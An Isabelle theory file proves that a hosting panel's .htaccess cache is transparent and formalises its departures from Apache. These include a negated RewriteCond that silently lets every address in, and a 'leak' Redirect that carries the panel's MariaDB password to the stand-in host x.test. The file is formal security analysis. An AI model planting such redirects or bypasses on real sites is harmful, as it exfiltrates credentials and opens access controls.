definition sig_entry :: "string \<Rightarrow> node \<Rightarrow> string" where
  "sig_entry f st = f @ '':'' @ decimal_int (node_size st) @ '':'' @ decimal_int (n_mtime st)"

lemma last_sep: "c \<notin> set xs \<Longrightarrow> c \<notin> set ys \<Longrightarrow> as @ c # xs = bs @ c # ys \<longleftrightarrow> as = bs \<and> xs = ys"
proof -
  assume "c \<notin> set xs" "c \<notin> set ys"
  then have "takeWhile (\<lambda>x. x \<noteq> c) (rev (as @ c # xs)) = rev xs" "takeWhile (\<lambda>x. x \<noteq> c) (rev (bs @ c # ys)) = rev ys"
    by (simp_all add: takeWhile_append)
  then show ?thesis by (metis append_same_eq list.inject rev_is_rev_conv)
qed

lemma sig_entry_inject:
  assumes "sig_entry f st = sig_entry f' st'"
  shows "f = f'" "node_size st = node_size st'" "n_mtime st = n_mtime st'"
proof -
  have "(f @ '':'' @ decimal_int (node_size st)) @ CHR '':'' # decimal_int (n_mtime st) =
      (f' @ '':'' @ decimal_int (node_size st')) @ CHR '':'' # decimal_int (n_mtime st')" using assms by (simp add: sig_entry_def)
  then have "f @ CHR '':'' # decimal_int (node_size st) = f' @ CHR '':'' # decimal_int (node_size st')" "n_mtime st = n_mtime st'"
    by (subst (asm) last_sep; simp add: decimal_int_no_sep decimal_int_inject)+
  then show "f = f'" "node_size st = node_size st'" "n_mtime st = n_mtime st'"
    using last_sep [of "CHR '':''" "decimal_int (node_size st)" "decimal_int (node_size st')" f f'] by (simp_all add: decimal_int_no_sep decimal_int_inject)
qed

text \<open>The entries of the files that exist.\<close>

definition sig_entries :: "HtEnv \<Rightarrow> string list \<Rightarrow> string list" where
  "sig_entries env fs = concat (map (\<lambda>f. case he_stat env f of None \<Rightarrow> [] | Some st \<Rightarrow> [sig_entry f st]) fs)"

lemma htFileSig_entries: "htFileSig env root dir = concat (map (\<lambda>e. e @ '';'') (sig_entries env (map ht_file (ht_chain root dir))))"
proof -
  have "concat (map (\<lambda>d. case he_stat env (ht_file d) of None \<Rightarrow> []
     | Some st \<Rightarrow> ht_file d @ '':'' @ decimal_int (node_size st) @ '':'' @ decimal_int (n_mtime st) @ '';'') ds) =
     concat (map (\<lambda>e. e @ '';'') (sig_entries env (map ht_file ds)))" for ds
    by (induction ds) (simp_all add: sig_entries_def sig_entry_def split: option.split)
  then show ?thesis by (simp add: htFileSig_def)
qed

lemma terminated_inject:
  fixes xs ys :: "string list"
  assumes "\<forall>x\<in>set xs. c \<notin> set x" "\<forall>y\<in>set ys. c \<notin> set y" "concat (map (\<lambda>x. x @ [c]) xs) = concat (map (\<lambda>x. x @ [c]) ys)"
  shows "xs = ys"
proof -
  have s: "Split c (concat (map (\<lambda>x. x @ [c]) zs)) = zs @ [[]]" if "\<forall>z\<in>set zs. c \<notin> set z" for zs
    using that by (induction zs) (simp_all add: Split_append Split_none)
  show ?thesis using s [OF assms(1)] s [OF assms(2)] unfolding assms(3) append1_eq_conv by (metis append_same_eq)
qed

lemma sig_entries_from:
  "e \<in> set (sig_entries env fs) \<longleftrightarrow> (\<exists>f\<in>set fs. \<exists>st. he_stat env f = Some st \<and> e = sig_entry f st)"
  by (force simp: sig_entries_def split: option.splits)

lemma same_sig_same_stamp:
  assumes "htFileSig env root dir = htFileSig env' root dir" "\<forall>d\<in>set (ht_chain root dir). CHR '';'' \<notin> set (ht_file d)"
    and "d \<in> set (ht_chain root dir)" "he_stat env (ht_file d) = Some st"
  shows "\<exists>st'. he_stat env' (ht_file d) = Some st' \<and> node_size st = node_size st' \<and> n_mtime st = n_mtime st'"
proof -
  let ?fs = "map ht_file (ht_chain root dir)"
  have n: "\<forall>e\<in>set (sig_entries x ?fs). CHR '';'' \<notin> set e" for x
    using assms(2) by (auto simp: sig_entries_from sig_entry_def decimal_int_no_sep)
  have "sig_entries env ?fs = sig_entries env' ?fs"
    using terminated_inject [OF n n] assms(1) by (simp add: htFileSig_entries)
  moreover have "sig_entry (ht_file d) st \<in> set (sig_entries env ?fs)" using assms(3,4) by (auto simp: sig_entries_from)
  ultimately obtain f st' where "he_stat env' f = Some st'" "sig_entry (ht_file d) st = sig_entry f st'" by (auto simp: sig_entries_from)
  then show ?thesis using sig_entry_inject by metis
qed

text \<open>So files with the same signature parse to the same.\<close>

lemma same_sig_same_config:
  assumes "htFileSig env root dir = htFileSig env' root dir" "\<forall>d\<in>set (ht_chain root dir). CHR '';'' \<notin> set (ht_file d)"
    and "stamp_tells env env'"
  shows "htParseDir env root dir = htParseDir env' root dir"
proof -
  note st = same_sig_same_stamp [OF assms(1,2)] same_sig_same_stamp [OF assms(1) [symmetric] assms(2)]
  have "(case he_stat env (ht_file d) of None \<Rightarrow> False | Some st \<Rightarrow> n_kind st \<noteq> Dir) \<longleftrightarrow>
      (case he_stat env' (ht_file d) of None \<Rightarrow> False | Some st \<Rightarrow> n_kind st \<noteq> Dir)"
    if "d \<in> set (ht_chain root dir)" for d
    using st [OF that] assms(3) unfolding stamp_tells_def by (fastforce split: option.splits)
  then have f: "ht_files env root dir = ht_files env' root dir" unfolding ht_files_def by (intro filter_cong) auto
  have r: "he_read env f = he_read env' f" if "f \<in> set (ht_files env root dir)" for f
    using that st(1) assms(3) unfolding stamp_tells_def by (fastforce simp: ht_files_def split: option.splits)
  have c: "fold (\<lambda>f cfg. merge_config (htParseFile (he_re env) (he_read env f)) cfg) (ht_files env root dir) c =
      fold (\<lambda>f cfg. merge_config (htParseFile (he_re env') (he_read env' f)) cfg) (ht_files env root dir) c" for c
    by (rule fold_cong) (use r assms(3) in \<open>simp_all add: stamp_tells_def\<close>)
  show ?thesis
  proof (cases "ht_files env root dir")
    case Nil
    then show ?thesis unfolding htParseDir_def f [symmetric] by simp
  next
    case (Cons f fs)
    then show ?thesis using c unfolding htParseDir_def f [symmetric] Cons by (simp only: list.case)
  qed
qed

lemma cache_key_inject: "CHR 0x00 \<notin> set root \<Longrightarrow> CHR 0x00 \<notin> set root' \<Longrightarrow> cache_key root dir = cache_key root' dir' \<longleftrightarrow> root = root' \<and> dir = dir'"
proof -
  assume "CHR 0x00 \<notin> set root" "CHR 0x00 \<notin> set root'"
  then have "takeWhile (\<lambda>c. c \<noteq> CHR 0x00) (cache_key root dir) = root" "takeWhile (\<lambda>c. c \<noteq> CHR 0x00) (cache_key root' dir') = root'"
    by (simp_all add: cache_key_def takeWhile_append)
  then show ?thesis by (auto simp: cache_key_def)
qed

definition cache_from :: "(HtEnv \<times> string \<times> string) set \<Rightarrow> ht_cache \<Rightarrow> bool" where
  "cache_from S cache \<longleftrightarrow> (\<forall>key sig cfg. map_of cache key = Some (sig, cfg) \<longrightarrow>
     (\<exists>(env, root, p)\<in>S. key = cache_key root (ht_dir_for root p) \<and> sig = htFileSig env root (ht_dir_for root p) \<and>
        cfg = htParseDir env root (ht_dir_for root p)))"

lemma cache_from_update:
  assumes "cache_from S cache" "(env, root, p) \<in> S"
  shows "cache_from S (AList.update (root @ [CHR 0x00] @ ht_dir_for root p) (htFileSig env root (ht_dir_for root p), htParseDir env root (ht_dir_for root p)) cache)"
  using assms unfolding cache_from_def update_conv' by (auto simp: cache_key_def split: if_splits)

lemma htConfigFor_transparent:
  assumes "edits_visible S" "cache_from S cache" "(env, root, p) \<in> S" "htConfigFor env cache root p = (cfg, cache')"
  shows "cfg = htParseDir env root (ht_dir_for root p)" "cache_from S cache'"
proof -
  let ?dir = "ht_dir_for root p"
  have "cfg = htParseDir env root ?dir \<and> cache_from S cache'"
  proof (cases "map_of cache (root @ [CHR 0x00] @ ?dir)")
    case None
    with assms(4) cache_from_update [OF assms(2,3)] show ?thesis by (auto simp: htConfigFor_def Let_def)
  next
    case (Some e)
    obtain sig' cfg' where e: "e = (sig', cfg')" by fastforce
    then obtain env' root' p' where o: "(env', root', p') \<in> S" "cache_key root ?dir = cache_key root' (ht_dir_for root' p')"
        "sig' = htFileSig env' root' (ht_dir_for root' p')" "cfg' = htParseDir env' root' (ht_dir_for root' p')"
      using assms(2) Some unfolding cache_from_def cache_key_def by blast
    have "names_separate root p" "names_separate root' p'" "stamp_tells env env'" using assms(1,3) o(1) unfolding edits_visible_def by fastforce+
    then have "root = root'" "?dir = ht_dir_for root' p'" "\<forall>d\<in>set (ht_chain root ?dir). CHR '';'' \<notin> set (ht_file d)" "stamp_tells env env'"
      using o(2) cache_key_inject by (auto simp: names_separate_def)
    then have "htParseDir env root ?dir = cfg'" if "sig' = htFileSig env root ?dir"
      using same_sig_same_config that o(3,4) by metis
    then show ?thesis using assms(4) Some e assms(2) cache_from_update [OF assms(2,3)] by (auto simp: htConfigFor_def Let_def split: if_splits)
  qed
  then show "cfg = htParseDir env root ?dir" "cache_from S cache'" by simp_all
qed

lemma serve_configs_transparent:
  assumes "edits_visible S" "cache_from S cache" "set reqs \<subseteq> S"
  shows "serve_configs cache reqs = map (\<lambda>(env, root, p). htParseDir env root (ht_dir_for root p)) reqs"
  using assms(2,3)
proof (induction reqs arbitrary: cache)
  case (Cons q reqs)
  obtain env root p where q: "q = (env, root, p)" by (cases q)
  obtain cfg cache' where h: "htConfigFor env cache root p = (cfg, cache')" by fastforce
  have m: "(env, root, p) \<in> S" using Cons.prems(2) q by simp
  note T = htConfigFor_transparent [OF assms(1) Cons.prems(1) m h]
  show ?case using q h T(1) Cons.IH [OF T(2)] Cons.prems(2) by simp
qed simp

text \<open>C29: Caching parsed \<open>.htaccess\<close> files is invisible. In any run of requests, to any sites, with files made, edited and removed
  in between, every request gets the configuration that parsing the files at that moment gives, as long as an edited file
  has another size or another modification time, no document root contains the character zero, and no directory on the way to a
  document root has a semicolon in its name.\<close>

theorem htaccess_cache_transparent:
  assumes "edits_visible (set reqs)"
  shows "serve_configs [] reqs = map (\<lambda>(env, root, urlPath). htParseDir env root (ht_dir_for root urlPath)) reqs"
  by (rule serve_configs_transparent [OF assms]) (simp_all add: cache_from_def)


definition ex_edits :: "(HtEnv \<times> string \<times> string) list" where
  "ex_edits = [(ex_htaccess 1 ''Deny from all'', ''/srv/w'', ''/a''), (ex_htaccess 1 ''Deny from all'', ''/srv/w'', ''/b''),
     (ex_htaccess 2 ''RewriteBase /'', ''/srv/w'', ''/a'')]"

theorem htaccess_cache_transparent_witness:
  "edits_visible (set ex_edits) \<and> map hc_DenyAll (serve_configs [] ex_edits) = [True, True, False]"
proof -
  have d: "ht_dir_for ''/srv/w'' ''/a'' = ''/srv/w''" "ht_dir_for ''/srv/w'' ''/b'' = ''/srv/w''" by code_simp+
  have n: "names_separate ''/srv/w'' ''/a''" "names_separate ''/srv/w'' ''/b''" unfolding names_separate_def by code_simp+
  have f: "ht_files (ex_htaccess t s) ''/srv/w'' ''/srv/w'' = [''/srv/w/.htaccess'']" for t s
  proof -
    have "ht_file ''/srv/w'' = ''/srv/w/.htaccess''" by code_simp
    then show ?thesis by (simp add: ht_files_def ht_chain.simps ex_htaccess_def)
  qed
  have "scan_lines ''Deny from all'' = [''Deny from all'']" "scan_lines ''RewriteBase /'' = [''RewriteBase /'']"
    by (simp_all add: scan_lines_def Let_def strip_cr_def)
  moreover have t: "line_is ''Deny from all'' ''Deny'' [''from'', ''all'']" "line_is ''RewriteBase /'' ''RewriteBase'' [''/'']" by code_simp+
  moreover have "ToLower ''Deny'' = ''deny''" "ToLower ''RewriteBase'' = ''rewritebase''" "EqualFold ''from'' ''from''" "EqualFold ''all'' ''all''" by code_simp+
  ultimately have h: "hc_DenyAll (htParseFile R (Some ''Deny from all''))" "\<not> hc_DenyAll (htParseFile R (Some ''RewriteBase /''))" for R
    by (simp_all add: htParseFile_def parse_line [OF t(1)] parse_line [OF t(2)] directive_def Let_def upd_cfg_def htDenyAll_def empty_config_def)
  have "stamp_tells (ex_htaccess i x) (ex_htaccess j y)" if "i = j \<longrightarrow> x = y" for i j x y
    using that by (auto simp: stamp_tells_def ex_htaccess_def)
  with n have v: "edits_visible (set ex_edits)" by (simp add: edits_visible_def ex_edits_def)
  have "hc_DenyAll (htParseDir (ex_htaccess 1 ''Deny from all'') ''/srv/w'' ''/srv/w'')" "\<not> hc_DenyAll (htParseDir (ex_htaccess 2 ''RewriteBase /'') ''/srv/w'' ''/srv/w'')"
    using h by (simp_all add: htParseDir_def f merge_config_def empty_config_def) (simp_all add: ex_htaccess_def)
  with v htaccess_cache_transparent [OF v] show ?thesis by (simp add: ex_edits_def d)
qed

section \<open>Departures from Apache\<close>

lemma TrimSet_keeps: "c \<in> set s \<Longrightarrow> c \<notin> set cs \<Longrightarrow> c \<in> set (TrimSet cs s)"
proof -
  have d: "c \<in> set (dropWhile (\<lambda>x. x \<in> set cs) t)" if "c \<in> set t" "c \<notin> set cs" for t
    using that by (induction t) auto
  assume "c \<in> set s" "c \<notin> set cs"
  then show ?thesis using d [of s] d [of "rev (dropWhile (\<lambda>x. x \<in> set cs) s)"] by (simp add: TrimSet_def)
qed

lemma upper_comma: "CHR '','' \<in> set s \<Longrightarrow> CHR '','' \<in> set (ToUpper s)"
proof -
  have "upper_char (CHR '','') = CHR '',''" by (simp add: upper_char_def)
  then show "CHR '','' \<in> set s \<Longrightarrow> ?thesis" using imageI [of "CHR '',''" "set s" upper_char] by (simp add: ToUpper_def)
qed

lemma cond_flag_comma: "CHR '','' \<in> set fl \<Longrightarrow> cond_flag fl c = c"
  using upper_comma [OF TrimSet_keeps [of "CHR '',''" fl "''[]''"]] by (auto simp: cond_flag_def Let_def)

text \<open>The flags of a condition are recognised only one by one: \<open>[NC,OR]\<close>, the way Apache writes two flags, sets neither.\<close>

theorem combined_flags_ignored:
  assumes "CHR '','' \<in> set flags"
  shows "htParseCond (test # pattern # flags # rest) = htParseCond (test # pattern # rest)"
  by (simp add: htParseCond_def cond_flag_comma [OF assms])

theorem combined_flags_ignored_witness:
  "htParseCond [''%{HTTP_HOST}'', ''^www'', ''[NC,OR]''] = htParseCond [''%{HTTP_HOST}'', ''^www'']"
  by (rule combined_flags_ignored) simp

text \<open>The usual way to let only one network in.\<close>

definition lan_only :: string where
  "lan_only = ''RewriteEngine On'' @ [newline] @ ''RewriteCond %{REMOTE_ADDR} !^10[.]'' @ [newline] @ ''RewriteRule ^ - [F]''"

definition lan_cond :: HtCond where
  "lan_cond = \<lparr>c_Test = ''%{REMOTE_ADDR}'', c_Pattern = ''!^10[.]'', c_NoCase = False, c_OrNext = False, c_Lex = None, c_LexNeg = False, c_FileTest = []\<rparr>"

lemma lan_only_parsed:
  "htParseFile R (Some lan_only) = empty_config\<lparr>hc_RewriteEngine := True,
     hc_Rules := [\<lparr>rl_Pattern = ''^'', rl_Sub = ''-'', rl_Flags = no_flags\<lparr>f_Forbidden := True\<rparr>, rl_Conds = [lan_cond]\<rparr>]\<rparr>"
proof -
  have l: "scan_lines lan_only = [''RewriteEngine On'', ''RewriteCond %{REMOTE_ADDR} !^10[.]'', ''RewriteRule ^ - [F]'']"
    by (simp add: scan_lines_def lan_only_def Let_def strip_cr_def)
  have t: "line_is ''RewriteEngine On'' ''RewriteEngine'' [''On'']"
    "line_is ''RewriteCond %{REMOTE_ADDR} !^10[.]'' ''RewriteCond'' [''%{REMOTE_ADDR}'', ''!^10[.]'']"
    "line_is ''RewriteRule ^ - [F]'' ''RewriteRule'' [''^'', ''-'', ''[F]'']" by code_simp+
  have n: "ToLower ''RewriteEngine'' = ''rewriteengine''" "ToLower ''RewriteCond'' = ''rewritecond''" "ToLower ''RewriteRule'' = ''rewriterule''"
    "EqualFold ''On'' ''on''" "htParseCond [''%{REMOTE_ADDR}'', ''!^10[.]''] = Some lan_cond" "htParseRuleFlags [''[F]''] = no_flags\<lparr>f_Forbidden := True\<rparr>"
    unfolding lan_cond_def by code_simp+
  show ?thesis
    by (simp add: htParseFile_def l parse_line [OF t(1)] parse_line [OF t(2)] parse_line [OF t(3)] directive_def n Let_def upd_cfg_def rewrite_rule_def
        append_opt_def empty_config_def empty_rule_def)
qed

text \<open>A negated pattern is not negated. The file below forbids everybody outside the network 10.*; the exclamation mark is
  taken as part of the expression, which then matches no address, so the rule never fires and everybody is let in.\<close>

theorem negated_condition_never_holds:
  assumes "\<And>s. re_find (he_re env) ''!^10[.]'' s = None"
  shows "htEngine env (htParseFile R (Some lan_only)) r root urlPath query = no_outcome"
proof -
  have "\<not> htEvalCond env r root ctx lan_cond" for ctx
    using assms by (simp add: htEvalCond_def lan_cond_def htCompile_def Let_def)
  then show ?thesis
    by (simp add: htEngine_def lan_only_parsed empty_config_def htApplyRule_def numeral_eq_Suc)
qed

theorem negated_condition_never_holds_witness:
  "remoteIP (ex_site_request ''/'') = ''192.0.2.7'' \<and>
   htEngine (ex_htaccess 0 lan_only) (htParseFile (he_re (ex_htaccess 0 [])) (Some lan_only)) (ex_site_request ''/'') ''/srv/w'' ''/'' [] = no_outcome"
proof -
  have "remoteIP (ex_site_request ''/'') = ''192.0.2.7''" by code_simp
  then show ?thesis using negated_condition_never_holds [of "ex_htaccess 0 lan_only"] by (simp add: ex_htaccess_def)
qed

text \<open>A file that puts a variable of the panel's environment into a redirect.\<close>

definition leak :: string where
  "leak = ''Redirect / http://x.test/%{ENV:AEGIS_MARIADB_PASSWORD}''"

lemma leak_parsed:
  "htParseFile R (Some leak) = empty_config\<lparr>hc_Redirects := [\<lparr>rd_Match = False, rd_Status = 302, rd_From = ''/'',
     rd_Target = ''http://x.test/%{ENV:AEGIS_MARIADB_PASSWORD}'', rd_Re = None\<rparr>]\<rparr>"
proof -
  have t: "line_is leak ''Redirect'' [''/'', ''http://x.test/%{ENV:AEGIS_MARIADB_PASSWORD}'']" unfolding leak_def by code_simp
  have n: "ToLower ''Redirect'' = ''redirect''" "ParseInt ''/'' = None" "ToLower ''/'' = ''/''" by code_simp+
  have "scan_lines leak = [leak]" by (simp add: scan_lines_def leak_def Let_def strip_cr_def)
  then show ?thesis
    by (simp add: htParseFile_def parse_line [OF t] directive_def n Let_def upd_cfg_def append_opt_def empty_config_def htParseRedirect_def redirect_status_def)
qed

text \<open>What a site's file expands includes the environment of the panel: with the file above every request to the site is
  redirected to an address that carries the panel's database password.\<close>

theorem htaccess_reads_panel_environment:
  "htEngine env (htParseFile R (Some leak)) r root urlPath query =
     no_outcome\<lparr>out_Redirect := ''http://x.test/'' @ he_getenv env ''AEGIS_MARIADB_PASSWORD'', out_Status := 302\<rparr>"
proof -
  have v: "htServerVar env r root ctx ''ENV:AEGIS_MARIADB_PASSWORD'' = he_getenv env ''AEGIS_MARIADB_PASSWORD''" for ctx
  proof -
    have "ToUpper ''ENV:AEGIS_MARIADB_PASSWORD'' = ''ENV:AEGIS_MARIADB_PASSWORD''" by code_simp
    then show ?thesis by (simp add: htServerVar_def Let_def HasPrefix_def TrimPrefix_def)
  qed
  have x: "expand_sub var ctx (c # rest) = c # expand_sub var ctx rest" if "c \<noteq> CHR ''$''" "c \<noteq> CHR ''%''" for var ctx c rest
    using that by (subst expand_sub.simps) (simp add: HasPrefix_def)
  have "expand_sub var ctx ''%{ENV:AEGIS_MARIADB_PASSWORD}'' = var ''ENV:AEGIS_MARIADB_PASSWORD''" for var ctx
    by (subst expand_sub.simps) (simp add: HasPrefix_def IndexByte_def is_dec_def expand_sub.simps)
  with v x have "htExpandSub env r root ctx ''http://x.test/%{ENV:AEGIS_MARIADB_PASSWORD}'' = ''http://x.test/'' @ he_getenv env ''AEGIS_MARIADB_PASSWORD''" for ctx
    by (simp add: htExpandSub_def)
  then show ?thesis by (simp add: htEngine_def leak_parsed empty_config_def redirect_hit_def Let_def)
qed

end
